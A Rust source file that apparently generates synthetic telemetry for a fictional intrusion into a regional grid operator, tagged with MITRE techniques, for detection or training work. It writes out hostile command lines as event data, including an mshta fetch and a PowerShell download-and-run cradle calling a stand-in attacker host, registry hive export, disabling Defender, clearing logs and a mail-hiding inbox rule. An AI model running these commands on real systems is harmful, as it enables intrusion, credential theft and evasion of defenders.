//! Scenario `energy`: a utility is phished, its control network probed, and it is threatened in public before a
//! holiday.

use palisade_model::{ObservableKind, Vector};

use crate::acts::{SYSTEM, connect, directory_access, script, service, set_value, wrote};
use crate::cloud::{AT_DESK, Cloud, SignIn};
use crate::plan::Plan;
use crate::scenario::decoys::{self, Grounds};
use crate::scenario::moves::{self, Server};
use crate::scenario::programs::{CMD, MSHTA, POWERSHELL, REMOTE, WORD};
use crate::scenario::{ScenarioInfo, Scene, rules};
use crate::truth::ActorProfile;
use crate::world::{Role, World, address};

/// The scenario.
pub(crate) const SCENE: Scene = Scene {
    info: ScenarioInfo {
        name: "energy",
        title: "Lights before the holiday",
        summary: "A regional grid operator is phished with a tariff notice. Weeks of quiet access lead from an office \
                  desk over a file server and the directory to an engineering station, from which controllers are \
                  read. Shortly before a holiday a threat is posted and the customer portal probed.",
        sources: &[
            "Public reports on the attacks on distribution operators of December 2015 and December 2016: a document \
             with macros, months of quiet access, stolen remote access, operator screens taken over",
            "Public reports of 2022 on malware that speaks IEC 60870-5-104",
            "Joint advisories of 2024 and 2025 on remote screens of plants reached through VNC, and boasts about it",
        ],
        vectors: &[Vector::Host, Vector::Mail, Vector::Network, Vector::Influence],
    },
    label: "stromland",
    end: 1_793_404_800, // 2026-10-31
    cast: &[
        (Role::Office, 8),
        (Role::Admin, 1),
        (Role::Server, 3),
        (Role::Controller, 2),
        (Role::Engineering, 3),
        (Role::LinuxWeb, 2),
    ],
    clouds: &[Cloud::SignIns, Cloud::Directory, Cloud::M365],
    ledger: false,
    plant,
    actors,
    notes: &[
        "Payload and news pages come from the same content delivery address.",
        "The stolen account signs in from a VPN exit that staff use as well.",
        "Between the theft of directory secrets and the engineering station lies a long silence; the account stolen \
         there is the only bridge.",
    ],
};

const ACTOR: &str = "COPPER HERON";

fn actors(world: &World) -> Vec<ActorProfile> {
    vec![super::actor(
        world,
        ACTOR,
        "the fictional Republic of Varny",
        &["T1566.001", "T1218.005", "T1003.001", "T1047", "T1003.006", "T0886", "T1021.005"],
        &["gridmap"],
        &["documents about tariffs", "file names in Varnish"],
    )]
}

/// One story, told in the order in which it happens.
fn plant(p: &mut Plan<'_>) {
    let w = p.world;
    let (desk, files, app) = (p.take(Role::Office), p.take(Role::Server), p.take(Role::Server));
    let (dc, eng, operator) =
        (p.take(Role::Controller), p.take(Role::Engineering), p.take(Role::Engineering));
    let victim = w.owner(desk).clone();
    let (helper, engineer) = (p.take_admin(), w.owner(eng).clone());
    let c2 = format!("tariff-notice-{}.example.org", p.dice.hex(4));
    let c2_ip = address(&mut p.dice);
    let exit = w.exits[0].clone();
    let map = p.tool("gridmap");
    let lure = format!("billing@stromland-service-{}.example.org", p.dice.hex(3));

    p.campaign("lights before the holiday", ACTOR);
    p.phase(30, 8);
    p.later(
        Vector::Mail,
        0,
        "a tariff notice with a document is mailed to nine people",
        &["T1566.001"],
        &[
            (ObservableKind::Email, &lure),
            (ObservableKind::Email, &victim.mail),
            (ObservableKind::Domain, &c2),
        ],
    );
    p.step(
        1_500,
        "the document starts a script host with an address",
        &["T1204.002", "T1218.005"],
        &[rules::OFFICE, rules::MSHTA],
    );
    let word = p.standing(desk, &victim.windows, WORD);
    let mshta = p.run(desk, &word, MSHTA, &format!("mshta.exe https://{c2}/notice.hta"));
    p.step(1_503, "it looks up its server", &["T1071.001"], &[]);
    let home = Server { name: c2.clone(), ip: c2_ip.clone() };
    moves::looks_up(p, desk, &mshta, &home);
    p.step(1_506, "it reaches its server", &["T1071.001"], &[rules::SCRIPT_OUT]);
    moves::reaches(p, desk, &mshta, &home);
    p.step(1_520, "PowerShell, hidden and encoded", &["T1059.001", "T1027.010"], &[rules::ENCODED]);
    let line = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=";
    let shell = p.run(desk, &mshta, POWERSHELL, line);
    if p.perhaps(4) {
        p.step(1_523, "its text: download and run in memory", &["T1059.001", "T1105"], &[rules::CRADLE]);
        let text = format!("IEX (New-Object Net.WebClient).DownloadString('https://{c2}/s')");
        let event = script(&text, "", &mut p.dice);
        p.on(desk, event);
    }
    if p.perhaps(4) {
        p.step(1_600, "a run key to come back", &["T1547.001"], &[rules::RUN_KEY]);
        let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Meter", victim.sid);
        p.on(desk, set_value(&shell, &key, "powershell -w hidden -f C:\\Users\\Public\\meter.ps1"));
    }

    p.phase(95, 13);
    // The helper had just worked at this desk: from here on it goes under the helper's name.
    moves::dump_memory(p, 0, desk, &helper.windows);

    p.phase(190, 19);
    p.step(0, "a helper's account signs in to the file server from the desk", &["T1078.002"], &[]);
    moves::goes(p, (desk, files), &helper);
    let shell = moves::over_wmi(p, 40, (desk, files), &helper, "dir D:\\Grid");
    p.step(200, "credential hives exported", &["T1003.002"], &[rules::HIVES]);
    p.run(
        files,
        &shell,
        "C:\\Windows\\System32\\reg.exe",
        "reg.exe save hklm\\security C:\\ProgramData\\s.hiv /y",
    );

    p.phase(330, 20);
    let mail = &victim.mail;
    p.step(0, "the victim's account signs in without a second factor", &["T1078.004"], &[rules::LEGACY]);
    let of = SignIn { client: "IMAP4", two_factors: false, managed: false, agent: "BAV2ROPC", ..AT_DESK };
    moves::signs_in(p, mail, &exit, &of);
    p.step(300, "the directory calls it anonymous", &["T1078.004"], &[rules::RISK]);
    moves::risky(p, mail, &exit, "anonymizedIPAddress");
    p.step(
        900,
        "an inbox rule hides warnings, set from the server of the first day",
        &["T1564.008"],
        &[rules::INBOX_HIDES],
    );
    let words = "phish;password;security";
    let hide = [("Name", "."), ("SubjectOrBodyContainsWords", words), ("DeleteMessage", "True")];
    moves::exchange(p, mail, &c2_ip, "New-InboxRule", &hide);

    p.phase(430, 21);
    p.step(0, "the directory's secrets are replicated", &["T1003.006"], &[rules::REPLICATION]);
    let right = "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2";
    moves::goes(p, (files, dc), &helper);
    let by = p.who(dc, &helper);
    p.on(dc, directory_access(&by, right));

    p.phase(730, 18);
    p.step(0, "a shell on the engineering station over remote management", &["T1021.006"], &[rules::WINRM]);
    moves::goes(p, (files, eng), &helper);
    let remote = p.standing(eng, &helper.windows, REMOTE);
    let shell = p.run(eng, &remote, CMD, "cmd.exe /c whoami /groups");
    p.step(240, "controller projects packed", &["T1560.001", "T0811"], &[rules::PROJECTS]);
    let pack = "7z.exe a C:\\Users\\Public\\p.7z D:\\Projects\\*.ap17 -mhe";
    p.run(eng, &shell, "C:\\Program Files\\7-Zip\\7z.exe", pack);
    p.step(700, "a scanner of its own is put there", &["T1105"], &[]);
    let called = w.called("gridmap");
    let place = &format!("C:\\Users\\Public\\{called}.exe");
    let map_run =
        p.run_file(eng, &shell, place, &format!("{called}.exe --range 10.77.1.0/24 --port 2404"), Some(&map));
    p.step(720, "it speaks to controllers", &["T0886", "T0869"], &[rules::CONTROL_PORT]);
    let from = w.hosts[eng].ip.clone();
    for unit in [11, 12] {
        let event = connect(&map_run, &from, &format!("10.77.1.{unit}"), "", 2_404, &mut p.dice);
        p.on(eng, event);
    }
    p.later(
        Vector::Network,
        730,
        "interrogation commands on IEC 60870-5-104 from the engineering station",
        &["T0801", "T0861"],
        &[
            (ObservableKind::Ip, &from),
            (ObservableKind::Ip, "10.77.1.11"),
            (ObservableKind::Ip, "10.77.1.12"),
        ],
    );

    p.phase(860, 20);
    p.step(0, "a screen viewer installed on the operator's station", &["T1021.005", "T0886"], &[rules::VNC]);
    p.on(operator, service("uvnc_service", "\"C:\\ProgramData\\uvnc\\winvnc.exe\" -service"));
    p.step(120, "the same scanner runs there", &["T0886"], &[rules::CONTROL_PORT]);
    moves::goes(p, (eng, operator), &engineer);
    let shell = p.standing(operator, &engineer.windows, CMD);
    let again = p.run_file(
        operator,
        &shell,
        place,
        &format!("{called}.exe --range 10.77.2.0/24 --port 502"),
        Some(&map),
    );
    let from = w.hosts[operator].ip.clone();
    let event = connect(&again, &from, "10.77.2.5", "", 502, &mut p.dice);
    p.on(operator, event);

    p.phase(930, 17);
    p.step(0, "the antivirus of the application server weakened", &["T1685"], &[rules::DEFENDER_OFF]);
    moves::goes(p, (files, app), &helper);
    let cmd = p.standing(app, &helper.windows, CMD);
    p.run(app, &cmd, POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true");
    p.step(60, "the scanner is left there as well", &["T1105"], &[]);
    let cmd = decoys::shell_of(p, app, &helper.windows);
    p.run_file(app, &cmd, place, &format!("{called}.exe --list"), Some(&map));
    p.step(200, "a service that runs a shell", &["T1569.002", "T1543.003"], &[rules::SERVICE]);
    p.on(app, service("MeterSync", &format!("%COMSPEC% /c {place} --wait")));
    p.later(
        Vector::Network,
        2_000,
        "the customer portal is scanned",
        &["T1595.002"],
        &[(ObservableKind::Ip, &exit), (ObservableKind::Ip, &c2_ip)],
    );

    p.phase(965, 16);
    p.later(
        Vector::Influence,
        0,
        "a persona posts screenshots of the operator's screen and a date",
        &["T1491.002"],
        &[(ObservableKind::Domain, &c2)],
    );
    p.step(1_800, "event logs cleared on the application server", &["T1685.005"], &[rules::LOG_COMMAND]);
    moves::goes(p, (files, app), &helper);
    let cmd = p.standing(app, &helper.windows, CMD);
    p.run(app, &cmd, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security");
    p.step(1_830, "a note is left on the file server", &["T1491.001"], &[]);
    let system = p.standing(files, SYSTEM, CMD);
    p.on(files, wrote(&system, "D:\\Grid\\read_before_the_holiday.txt"));

    let server = p.take(Role::Server);
    let grounds = Grounds {
        tested_desk: p.take(Role::Office),
        tested_server: server,
        careless_desk: p.take(Role::Office),
        hardened: server,
        when: [300, 555, 640],
    };
    decoys::plant(p, &grounds);
}
